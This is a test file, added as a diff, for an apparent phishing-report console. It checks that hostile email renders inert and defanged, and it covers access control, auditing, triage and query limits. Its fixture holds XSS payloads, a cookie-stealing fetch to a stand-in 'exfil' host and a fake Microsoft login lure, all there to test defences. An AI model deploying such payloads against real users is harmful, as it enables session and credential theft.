@@ -1,0 +1,227 @@
+"""Console pages: hostile mail shown safely, queue and paging, report and campaign pages, audited reads,
+and a ceiling on the SQL statements each page runs."""
+
+from __future__ import annotations
+
+import re
+
+import pytest
+from sqlalchemy import select, update
+
+from tests.test_console_support import (
+    analyse_all,
+    count_queries,
+    email,
+    page_csrf,
+    put_in_campaign,
+    report_email,
+    signed_in,
+)
+from watchword.runtime import Runtime
+from watchword.store.models import AuditEvent, Campaign, Report
+
+HOSTILE_HTML = """<html><head>
+<link rel="stylesheet" href="https://cdn.evil-example.com/x.css">
+<style>@import url(https://css.evil-example.com/i.css); body{background:url(https://bg.evil-example.com/b.png)}
+.hide{display:none} a::after{content:"https://decoy.example.org"}</style>
+<meta http-equiv="refresh" content="0;url=https://refresh.evil-example.com/">
+</head><body onload="window.__pwned='onload'">
+<script>window.__pwned='script'; fetch('https://exfil.evil-example.com/?c='+document.cookie)</script>
+<img src="https://pixel.evil-example.com/open.gif" onerror="window.__pwned='onerror'">
+<img src=x onerror=alert(1)>
+<svg><script>window.__pwned='svg'</script></svg>
+<iframe src="https://frame.evil-example.com/"></iframe>
+<a href="javascript:window.__pwned='js-link'">Verify your account</a>
+<a href="https://login.evil-example.com/o365">https://login.microsoftonline.com/</a>
+<form action="https://post.evil-example.com/"><input name=password></form>
+<p class="hide">hidden words</p><p>Your mailbox is full. Sign in to keep your mail.</p>
+</body></html>"""
+
+
+@pytest.fixture
+def hostile(rt: Runtime) -> int:
+    raw = email("Mailbox full: action required", "Your mailbox is full. https://login.evil-example.com/o365",
+                sender="it-support@evil-example.com", html=HOSTILE_HTML)
+    report_id = report_email(rt, raw, text="This looked wrong", contact="reporter@corp.example")
+    analyse_all(rt)
+    return report_id
+
+
+def _markup_outside_text(html: str) -> str:
+    """The page's own markup: tags only, with text nodes removed."""
+    return "".join(re.findall(r"<[^>]*>", html))
+
+
+def test_hostile_html_is_shown_as_inert_text(rt: Runtime, hostile: int) -> None:
+    client = signed_in(rt)
+    response = client.get(f"/console/reports/{hostile}")
+    assert response.status_code == 200
+    html = response.text
+    tags = _markup_outside_text(html)
+    # Our one static script; nothing from the message becomes an element or an attribute.
+    assert re.findall(r"<script[^>]*>", tags) == ['<script src="/static/console.js" defer>']
+    for bad in ("onerror", "onload", "<img", "<iframe", "<svg", "<form action=\"https", "<meta http-equiv",
+                "<link rel=\"stylesheet\" href=\"https", "javascript:", "<style"):
+        assert bad not in tags, bad
+    assert "evil-example.com" not in html  # every host is defanged: evil-example[.]com
+    assert "evil-example[.]com" in html
+    assert "javascript[:]" in html
+    assert 'src="http' not in html and "href=\"http" not in html and "url(" not in tags
+    # The link whose text shows Microsoft but goes elsewhere is flagged.
+    assert 'class="mismatch"' in html
+
+
+def test_every_console_page_sends_a_strict_csp_and_the_usual_headers(rt: Runtime, hostile: int) -> None:
+    client = signed_in(rt)
+    for path in ("/console/", f"/console/reports/{hostile}", "/console/search?q=mailbox", "/console/login"):
+        headers = client.get(path).headers
+        csp = headers["content-security-policy"]
+        assert "default-src 'none'" in csp and "script-src 'self'" in csp and "unsafe-inline" not in csp
+        assert "frame-ancestors 'none'" in csp
+        assert headers["x-content-type-options"] == "nosniff"
+        assert headers["referrer-policy"] == "no-referrer"
+        assert headers["cache-control"] == "no-store"
+
+
+def test_contact_details_are_for_analysts_and_each_view_is_audited(rt: Runtime, hostile: int) -> None:
+    viewer = signed_in(rt, "vic", role="viewer")
+    page = viewer.get(f"/console/reports/{hostile}").text
+    assert "Show contact details" not in page and "reporter@corp.example" not in page
+    assert viewer.post(f"/console/reports/{hostile}/contact",
+                       data={"csrf": page_csrf(viewer)}).status_code == 403
+
+    analyst = signed_in(rt, "ana")
+    assert "reporter@corp.example" not in analyst.get(f"/console/reports/{hostile}").text
+    for _ in range(2):
+        shown = analyst.post(f"/console/reports/{hostile}/contact", data={"csrf": page_csrf(analyst)})
+        assert "reporter@corp.example" in shown.text
+    with rt.db.session() as session:
+        views = session.scalars(select(AuditEvent).where(AuditEvent.action == "contact.viewed")).all()
+    assert [(v.actor, v.object_id) for v in views] == [("ana", str(hostile))] * 2
+    audit_page = analyst.get("/console/audit?action=contact.viewed").text
+    assert audit_page.count("contact.viewed</a>") == 2
+
+
+def test_raw_message_is_a_download_behind_a_warning_and_audited(rt: Runtime, hostile: int) -> None:
+    client = signed_in(rt)
+    warning = client.get(f"/console/reports/{hostile}/raw")
+    assert "hostile message exactly as it arrived" in warning.text
+    download = client.post(f"/console/reports/{hostile}/raw", data={"csrf": page_csrf(client)})
+    assert download.status_code == 200
+    assert download.headers["content-type"] == "application/octet-stream"
+    assert download.headers["content-disposition"].startswith("attachment;")
+    assert "sandbox" in download.headers["content-security-policy"]
+    assert b"<script>" in download.content  # the untouched original
+    with rt.db.session() as session:
+        assert session.scalar(select(AuditEvent.actor).where(AuditEvent.action == "report.raw_download")) == "ana"
+
+
+def test_triage_an_unassigned_report(rt: Runtime, hostile: int) -> None:
+    client = signed_in(rt)
+    queue = client.get("/console/?view=reports").text
+    assert f'href="/console/reports/{hostile}"' in queue
+    response = client.post(f"/console/reports/{hostile}/verdict",
+                           data={"csrf": page_csrf(client), "verdict": "malicious", "note": "credential lure"})
+    assert response.status_code == 303
+    page = client.get(response.headers["location"]).text
+    assert "Verdict saved." in page and "verdict-malicious" in page and "credential lure" in page
+    with rt.db.session() as session:
+        assert session.get(Report, hostile).verdict == "malicious"  # type: ignore[union-attr]
+        event = session.scalars(select(AuditEvent).where(AuditEvent.action == "report.verdict")).one()
+    assert event.actor == "ana" and event.detail["verdict"] == "malicious"
+    assert f"/console/reports/{hostile}" not in client.get("/console/?view=reports&verdict=none").text
+
+
+def test_queue_orders_by_priority_shows_reasons_filters_and_pages(rt: Runtime) -> None:
+    with rt.db.write() as session:
+        for n in range(7):
+            session.add(Campaign(title=f"wave {n}", risk=0.1 * n, priority=0.1 * n, report_count=n + 1,
+                                 reporter_count=n + 1, surging=n == 3, approach_type="credential_phishing"
+                                 if n % 2 else "fake_recruitment"))
+    client = signed_in(rt)
+    html = client.get("/console/").text
+    titles = re.findall(r">wave (\d)<", html)
+    assert titles == ["6", "5", "4", "3", "2", "1", "0"]
+    assert "reach 7 people" in html and "surging now" in html
+    only_recruiting = client.get("/console/?approach_type=fake_recruitment").text
+    assert re.findall(r">wave (\d)<", only_recruiting) == ["6", "4", "2", "0"]
+    assert re.findall(r">wave (\d)<", client.get("/console/?surging=1").text) == ["3"]
+
+    from watchword.services import queue as queue_service
+
+    with rt.db.session() as session:
+        first = queue_service.open_campaigns(session, queue_service.Filters(), limit=3)
+        second = queue_service.open_campaigns(session, queue_service.Filters(), first.next_cursor, limit=3)
+        third = queue_service.open_campaigns(session, queue_service.Filters(), second.next_cursor, limit=3)
+    assert [r.title for r in first.rows + second.rows + third.rows] == [f"wave {n}" for n in range(6, -1, -1)]
+    assert third.next_cursor == ""
+
+
+def test_campaign_page_shows_timeline_members_and_indicator_counts(rt: Runtime) -> None:
+    ids = [report_email(rt, email(f"Interview {n}", f"Apply at https://jobs.recruit-example.com/{n}"))
+           for n in range(3)]
+    analyse_all(rt)
+    campaign_id = put_in_campaign(rt, ids, "Recruiter persona")
+    client = signed_in(rt)
+    html = client.get(f"/console/campaigns/{campaign_id}").text
+    assert html.count("<rect ") >= 1 and "Reports per hour" in html
+    for report_id in ids:
+        assert f'href="/console/reports/{report_id}"' in html
+    assert "recruit-example[.]com" in html
+    indicator_id = re.search(r'href="/console/indicators/(\d+)"><code>recruit-example\[\.\]com', html)
+    assert indicator_id
+    indicator_page = client.get(f"/console/indicators/{indicator_id.group(1)}").text
+    assert f'href="/console/campaigns/{campaign_id}"' in indicator_page
+    assert all(f'href="/console/reports/{r}"' in indicator_page for r in ids)
+
+
+def test_report_in_a_campaign_links_to_it_and_takes_its_verdict(rt: Runtime) -> None:
+    report_id = report_email(rt, email("Invoice 4471", "Pay to IBAN"))
+    analyse_all(rt)
+    campaign_id = put_in_campaign(rt, [report_id], "Invoice fraud", verdict="malicious")
+    client = signed_in(rt)
+    html = client.get(f"/console/reports/{report_id}").text
+    assert f'href="/console/campaigns/{campaign_id}"' in html and "verdict-malicious" in html
+    refused = client.post(f"/console/reports/{report_id}/verdict",
+                          data={"csrf": page_csrf(client), "verdict": "benign"})
+    assert refused.status_code == 400
+
+
+def test_notes_are_added_audited_and_searchable(rt: Runtime, hostile: int) -> None:
+    client = signed_in(rt)
+    client.post(f"/console/reports/{hostile}/note", data={"csrf": page_csrf(client), "body": "blocked at gateway"})
+    found = client.get("/console/search?q=gateway").text
+    assert f'href="/console/reports/{hostile}"' in found
+
+
+# -- query ceilings ------------------------------------------------------------------
+
+CEILINGS = {"queue": 3, "reports queue": 3, "search": 6, "report": 6, "campaign": 7, "indicator": 5, "audit": 3}
+
+
+def test_each_page_runs_a_bounded_number_of_queries(rt: Runtime) -> None:
+    """GIVEN many reports, campaigns and indicators WHEN each page is fetched THEN its SQL statements stay
+    under a fixed ceiling: no query per row, whatever the page shows."""
+    ids = [report_email(rt, email(f"Wire transfer {n}", f"Urgent: pay https://pay{n % 4}.fraud-example.com/{n}"),
+                        contact=f"r{n}@corp.example") for n in range(24)]
+    analyse_all(rt)
+    campaign_id = put_in_campaign(rt, ids[:16], "Wire fraud")
+    with rt.db.write() as session:
+        session.execute(update(Report).where(Report.id.in_(ids[16:])).values(campaign_id=None))
+    client = signed_in(rt)
+    indicator = re.search(r'href="/console/indicators/(\d+)"', client.get(f"/console/reports/{ids[0]}").text)
+    assert indicator
+    pages = {
+        "queue": "/console/",
+        "reports queue": "/console/?view=reports",
+        "search": "/console/search?q=urgent",
+        "report": f"/console/reports/{ids[0]}",
+        "campaign": f"/console/campaigns/{campaign_id}",
+        "indicator": f"/console/indicators/{indicator.group(1)}",
+        "audit": "/console/audit",
+    }
+    for name, path in pages.items():
+        with count_queries(rt.db.engine) as seen:
+            response = client.get(path)
+        assert response.status_code == 200, name
+        assert len(seen) <= CEILINGS[name], (name, len(seen), seen)
